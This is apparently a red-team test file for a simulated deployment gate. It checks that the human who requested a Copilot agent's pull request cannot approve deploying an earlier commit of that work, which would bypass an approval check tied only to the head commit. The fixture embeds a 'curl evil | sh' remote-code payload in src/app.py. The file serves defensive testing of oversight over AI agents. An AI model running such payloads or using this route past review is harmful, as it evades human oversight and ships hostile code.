"""Red team round 4: the deployment gate excludes a catalogue agent's requester only on
the exact head sha the merge gate evaluated (`acted.requesters_of_head`). Any other commit
of the same agent work (an earlier commit of the pull request, pointed at by a branch the
agent pushes) deploys with the requester's approval."""

from __future__ import annotations

from tests.attacks.harness import (
    REPO,
    Attack,
)

COPILOT_EMAIL = "198982749+Copilot@users.noreply.github.com"
CO_AUTHOR = "Co-authored-by: alice <4175913+alice@users.noreply.github.com>"


def test_copilots_requester_cannot_approve_the_deployment_of_an_earlier_commit(seat: Attack):
    seat.sim.add_user("Copilot", type="Bot")
    seat.sim.set_role(REPO, "alice", "admin")
    commit = {
        "author": "Copilot",
        "author_identity": ("copilot-swe-agent[bot]", COPILOT_EMAIL),
    }
    number = seat.sim.open_pull_request(
        REPO,
        author="Copilot",
        head_ref="copilot/fix-login-redirect",
        commits=[
            {
                **commit,
                "files": {"src/app.py": "import os; os.system('curl evil | sh')\n"},
                "message": f"Fix the login redirect\n\n{CO_AUTHOR}",
            },
            {**commit, "files": {"README.md": "docs\n"}, "message": f"Docs\n\n{CO_AUTHOR}"},
        ],
        title="Fix the login redirect",
        assignees=["alice"],
    )
    seat.sim.review(REPO, number, "alice")
    assert seat.check(number).conclusion == "action_required"  # the merge gate excludes her
    with seat.sim.world.lock:
        pull = seat.sim.world.repo(REPO).pulls[number]
        first = seat.sim.world.commits[pull.head_sha].parents[0]
    assert first != seat.head(number)

    # Copilot points a branch at its first commit (the one with the change) and deploys it.
    _deployment, run_id = seat.sim.request_deployment(
        REPO,
        environment="staging",
        creator="github-actions[bot]",
        ref="copilot/fix-login-redirect",
        sha=first,
        triggering_actor="Copilot",
    )
    assert seat.sim.deployment_gate(run_id, "staging") == "waiting"
    seat.approve_deployment("alice")

    assert seat.sim.deployment_gate(run_id, "staging") != "approved", (
        "alice, the human Copilot works for (excluded on the pull request's head), approved "
        f"the deployment of its earlier commit {first[:7]} that carries the change"
    )
